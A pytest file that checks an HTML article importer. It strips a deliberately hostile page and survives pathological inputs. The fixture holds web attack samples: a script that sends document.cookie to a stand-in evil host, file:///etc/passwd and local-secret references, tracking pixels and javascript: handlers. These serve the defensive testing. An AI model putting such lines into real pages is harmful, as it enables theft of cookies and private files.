"""A hostile page imports and displays without running or fetching anything (issues 4 and 7).

The guards of `tests/fuzz/network_guard.py` fail any socket and record every file Python opens;
the display side is a QTextDocument that records every resource Qt asks it for; and, where strace
is installed, a child process imports and paints the page under strace, which also sees what C
code (libxml2, Qt) opens or connects to. Each check has a control showing it would catch the raw page.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import textwrap
from collections.abc import Iterator
from pathlib import Path

import pytest
from PySide6.QtCore import QByteArray, QUrl
from PySide6.QtGui import QImage, QTextDocument
from pytestqt.qtbot import QtBot

from app.errors import UnreadableFileError
from app.importers import import_file
from tests.fuzz import network_guard
from tests.helpers import HANG, ROOT, children, finished, refusal
from tests.importers.test_html import PARAGRAPHS

no_network = network_guard.no_network
files_opened = network_guard.files_opened

MB = 2**20


def hostile_page(folder: Path) -> str:
    """Every way a page can try to fetch, run or read something, around a real article."""
    secret = folder / "secret.txt"
    data_uri = "data:image/png;base64," + "iVBORw0KGgo" * (10 * MB // 11)  # 10 MB inline image
    article = "".join(f"<p>{paragraph}</p>" for paragraph in PARAGRAPHS)
    return f"""<!DOCTYPE html><html><head>
<meta http-equiv="refresh" content="0; url=https://evil.invalid/redirect">
<base href="https://evil.invalid/">
<title>Storm closes the port</title>
<link rel="stylesheet" href="https://cdn.invalid/site.css"><link rel="stylesheet" href="file:///etc/passwd">
<link rel="preload" href="https://cdn.invalid/font.woff2"><link rel="icon" href="file://{secret}">
<style>
@import url("https://cdn.invalid/more.css");
@font-face {{ font-family: Spy; src: url(https://fonts.invalid/spy.woff2); }}
body {{ background: url(file:///etc/passwd); font-family: Spy; }}
</style>
<script src="https://js.invalid/tracker.js"></script>
<script>fetch("https://evil.invalid/?c=" + document.cookie);
document.write("<p>written by script</p>");</script>
</head><body onload="steal()">
<iframe src="https://evil.invalid/frame"></iframe><iframe srcdoc="<p>framed text</p>"></iframe>
<article>
<h1 onclick="steal()">Storm closes the port</h1>
<img src="https://tracker.invalid/pixel.gif?id=42" width="1" height="1" alt="">
<img src="file:///etc/passwd" alt=""><img src="file://{secret}" alt="">
<img src="{data_uri}" alt="">
<svg><image href="https://tracker.invalid/svg.png"></image></svg>
{article}
<p style="background: url(https://tracker.invalid/inline.gif)">Read the <a href="javascript:steal()">full
report</a> or <a href="https://port.invalid/report">the notice</a>.</p>
<object data="https://evil.invalid/x.swf"></object><embed src="file:///etc/passwd">
<video src="https://cdn.invalid/v.mp4" poster="https://tracker.invalid/poster.jpg"></video>
</article>
<noscript><img src="https://tracker.invalid/noscript.gif"></noscript>
</body></html>"""


FORBIDDEN = (
    *("<script", "<iframe", "<img", "<style", "<link", "<meta", "<base", "<svg", "<object", "<embed"),
    *("<video", "style=", "onclick", "onload", "javascript:", "data:", "file:", "evil.invalid"),
    *("tracker.invalid", "cdn.invalid", "fonts.invalid", "passwd", "secret", "@import", "@font-face"),
    *("refresh", "written by script", "framed text", "url("),
)


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    path = tmp_path / "hostile.html"
    path.write_text(hostile_page(tmp_path), encoding="utf-8")
    (tmp_path / "secret.txt").write_text("the source's phone number", encoding="utf-8")
    files = tmp_path / "hostile_files"
    files.mkdir()
    (files / "site.css").write_text("body { background: url(https://tracker.invalid/css.gif) }")
    return path


def test_a_hostile_page_imports_without_network_or_other_files(
    hostile: Path, no_network: list[str], files_opened: list[str]
) -> None:
    files_opened.clear()  # writing the page was the test's doing
    article = import_file(hostile)
    assert _data_files(files_opened, hostile.parent) == [str(hostile)]
    assert no_network == []
    html = article.html or ""
    for paragraph in PARAGRAPHS:
        assert paragraph in article.text.split("\n\n")
        assert f"<p>{paragraph}</p>" in html
    for thing in FORBIDDEN:
        assert thing.lower() not in html.lower(), thing
        assert thing.lower() not in article.text.lower(), thing
    assert '<a href="https://port.invalid/report">the notice</a>' in html
    assert article.title == "Storm closes the port" and article.url is None


def _data_files(opened: list[str], folder: Path) -> list[str]:
    """Opened files that could be data: in the page's folder, /etc or home, Python's modules aside."""
    modules = tuple(entry for entry in {*sys.path, sys.prefix, sys.base_prefix} if entry.startswith("/"))
    places = (str(folder), "/etc", str(Path.home()))
    return [path for path in opened if path.startswith(places) and not path.startswith(modules)]


class RecordingDocument(QTextDocument):
    """Records every resource Qt asks for and answers with a blank (a null answer makes Qt read files)."""

    def __init__(self) -> None:
        super().__init__()
        self.asked: list[str] = []

    def loadResource(self, type: int, name: QUrl | str) -> object:
        self.asked.append(name.toString() if isinstance(name, QUrl) else str(name))
        if type == QTextDocument.ResourceType.ImageResource.value:
            blank = QImage(1, 1, QImage.Format.Format_ARGB32)
            blank.fill(0)
            return blank
        return QByteArray(b" ")


def _shown(html: str) -> RecordingDocument:
    """Give Qt the markup and make it lay out and paint it, so every resource it wants is asked for."""
    document = RecordingDocument()
    document.setHtml(html)
    document.setTextWidth(600)
    image = QImage(600, max(1, int(document.size().height())), QImage.Format.Format_ARGB32)
    from PySide6.QtGui import QPainter

    painter = QPainter(image)
    document.drawContents(painter)
    painter.end()
    return document


def test_displaying_the_copy_asks_qt_for_no_resource(
    qtbot: QtBot, hostile: Path, no_network: list[str]
) -> None:
    article = import_file(hostile)
    document = _shown(article.html or "")
    assert document.asked == []
    assert PARAGRAPHS[0] in document.toPlainText()


def test_the_recorder_would_see_the_raw_pages_requests(qtbot: QtBot, tmp_path: Path) -> None:
    """The control: shown unsanitised, the same page makes Qt ask for local and remote things."""
    document = _shown(hostile_page(tmp_path).replace("iVBORw0KGgo" * (10 * MB // 11), "iVBORw0KGgo"))
    assert any(url.startswith("file://") for url in document.asked), document.asked
    assert any("tracker.invalid" in url or "cdn.invalid" in url for url in document.asked), document.asked


# --- the same, seen by the kernel: C code (libxml2, Qt) bypasses Python's audit hooks -------------

_SHOW = """
import sys
from pathlib import Path
from PySide6.QtGui import QGuiApplication, QImage, QPainter, QTextDocument
from app.importers import import_file
page, mode = Path(sys.argv[1]), sys.argv[2]
app = QGuiApplication([])
html = import_file(page).html if mode == "sanitised" else page.read_text(encoding="utf-8")
document = QTextDocument()  # Qt's own: it reads local images by itself when asked for one
document.setHtml(html)
document.setTextWidth(600)
image = QImage(600, max(1, int(document.size().height())), QImage.Format.Format_ARGB32)
painter = QPainter(image)
document.drawContents(painter)
painter.end()
print(len(document.toPlainText()))
"""


def _traced(page: Path, mode: str) -> tuple[list[str], list[str]]:
    """(files opened in the page's folder, internet connects) by a child importing and showing it."""
    log = page.parent / f"strace-{mode}.txt"
    trace = ["strace", "-f", "-qq", "-e", "trace=openat,open,connect", "-o", str(log)]
    done = subprocess.run(
        [*trace, sys.executable, "-c", _SHOW, str(page), mode],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=HANG,
        env={**os.environ, "QT_QPA_PLATFORM": "offscreen"},
        check=False,
    )
    if done.returncode != 0 and "ptrace" in done.stderr:
        pytest.skip("strace cannot trace here (ptrace not permitted)")
    assert done.returncode == 0, done.stderr[-2000:]
    lines = log.read_text(encoding="utf-8", errors="replace").splitlines()
    opened = [line for line in lines if "open" in line and str(page.parent) in line and str(log) not in line]
    connects = [line for line in lines if "connect(" in line and "AF_INET" in line]
    return opened, connects


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("strace") is None, reason="strace is not installed")
def test_import_and_display_open_no_socket_and_no_other_file_at_the_system_level(hostile: Path) -> None:
    opened, connects = _traced(hostile, "sanitised")
    assert connects == []
    assert len(opened) == 1 and f'"{hostile}"' in opened[0], opened


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("strace") is None, reason="strace is not installed")
def test_the_trace_would_see_qt_read_a_file_the_raw_page_names(tmp_path: Path) -> None:
    """The control: Qt given the raw page opens the local "secret" it points to, and strace sees it."""
    page = tmp_path / "raw.html"
    page.write_text(hostile_page(tmp_path).replace("iVBORw0KGgo" * (10 * MB // 11), "iVBORw0KGgo"))
    (tmp_path / "secret.txt").write_text("the source's phone number", encoding="utf-8")
    opened, _ = _traced(page, "raw")
    assert any("secret.txt" in line for line in opened), opened


# --- pathological inputs, each in its own process under a hang timeout ----------------------------

PROSE = "<p>The harbour authority said on Monday that 40 ferries were cancelled because of the storm.</p>"
DATA_URI_IMG = "'<img src=\"data:image/png;base64,' + 'A' * (10 * MB) + '\">'"
# name -> (suffix, Python expression for the file's bytes, run in the child)
CASES = {
    "a 10 MB inline data URI": (".html", f"({PROSE!r} + {DATA_URI_IMG}).encode()"),
    "10,000 nested tags": (".html", f"('<div>' * 10_000 + {PROSE!r} + '</div>' * 10_000).encode()"),
    "10,000 nested inline tags": (".html", f"({PROSE!r} + '<b><i>' * 5_000 + 'x').encode()"),
    "a 10 MB line of text": (".html", "('<p>' + 'word ' * (10 * MB // 5) + '</p>').encode()"),
    "a 10 MB line of markup": (".html", f"({PROSE!r} * (10 * MB // {len(PROSE)})).encode()"),
    "10 MB of random bytes": (".html", "random.Random(7).randbytes(10 * MB)"),
    "random bytes in MHTML": (".mhtml", "random.Random(8).randbytes(MB)"),
    "MHTML of 10,000 nested tags": (".mhtml", f"mhtml(('<div>' * 10_000 + {PROSE!r}).encode())"),
    "MHTML of a 10 MB data URI": (".mhtml", f"mhtml(({PROSE!r} * 4 + {DATA_URI_IMG}).encode())"),
    "MHTML of 20,000 parts": (".mhtml", "mhtml(b'<p>x</p>', parts=20_000)"),
    "MHTML of parts nested 3,000 deep": (".mhtml", "nested_mhtml(3_000)"),
}  # fmt: skip

_CHILD = """
import random, sys
from pathlib import Path
from app.errors import UnreadableFileError
from app.importers import import_file
MB = 2**20

def mhtml(html, parts=1):
    head = b'MIME-Version: 1.0\\r\\nContent-Type: multipart/related; boundary="B"\\r\\n\\r\\n'
    part = b'--B\\r\\nContent-Type: text/html; charset=utf-8\\r\\n\\r\\n' + html + b'\\r\\n'
    return head + part * parts + b'--B--\\r\\n'

def nested_mhtml(depth):
    head = b'MIME-Version: 1.0\\r\\nContent-Type: multipart/related; boundary="B0"\\r\\n\\r\\n'
    opening = b''.join(
        b'--B%d\\r\\nContent-Type: multipart/related; boundary="B%d"\\r\\n\\r\\n' % (i - 1, i)
        for i in range(1, depth)
    )
    html = b'--B%d\\r\\nContent-Type: text/html\\r\\n\\r\\n<p>deep</p>\\r\\n' % (depth - 1)
    return head + opening + html + b''.join(b'--B%d--\\r\\n' % i for i in reversed(range(depth)))

path = Path(sys.argv[1])
path.write_bytes({expr})
try:
    article = import_file(path)
except UnreadableFileError as error:
    assert path.name in str(error) and "\\n" not in str(error), str(error)
    print("refused:", error)
else:
    assert article.text.strip() and article.html
    print("article:", len(article.text), "characters")
"""


@pytest.fixture(scope="module")
def started(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, subprocess.Popen[str]]]:
    folder = tmp_path_factory.mktemp("pathological")
    programs = {
        name: [textwrap.dedent(_CHILD.format(expr=expr)), str(folder / f"case{n}{suffix}")]
        for n, (name, (suffix, expr)) in enumerate(CASES.items())
    }
    with children(programs) as running:
        yield running


@pytest.mark.slow
@pytest.mark.timeout(HANG + 60)  # the cases' own hang detector, which names the case, speaks first
@pytest.mark.parametrize("name", list(CASES))
def test_pathological_pages_give_an_article_or_a_clear_error(
    started: dict[str, subprocess.Popen[str]], name: str
) -> None:
    out = finished(name, started[name])
    assert out.startswith(("article:", "refused:")), out
    print(name, "->", out.strip())


def test_a_page_cut_short_by_a_parser_limit_is_refused_not_half_imported(tmp_path: Path) -> None:
    path = tmp_path / "deep.html"
    path.write_text(PROSE * 10 + "<div>" * 10_000 + PROSE, encoding="utf-8")
    with pytest.raises(UnreadableFileError, match=r"^deep\.html: the page is nested too deeply"):
        import_file(path)


def test_a_page_far_beyond_any_article_is_refused_at_once(tmp_path: Path) -> None:
    """An index of 25,000 teasers (a few MB) would tie the machine up for a minute and a GB."""
    from app.importers.html import MAX_ELEMENTS

    page = tmp_path / "index.html"
    with page.open("w", encoding="utf-8") as out:
        out.write("<html><body><article><p>The union said 40 ferries stopped on Monday.</p>")
        for k in range(MAX_ELEMENTS // 3 + 10):
            out.write(f'<div><a href="/s/{k}">Teaser {k}</a><span>More</span></div>\n')
        out.write("</article></body></html>")
    message = refusal(page)
    assert "far more than an article page" in message
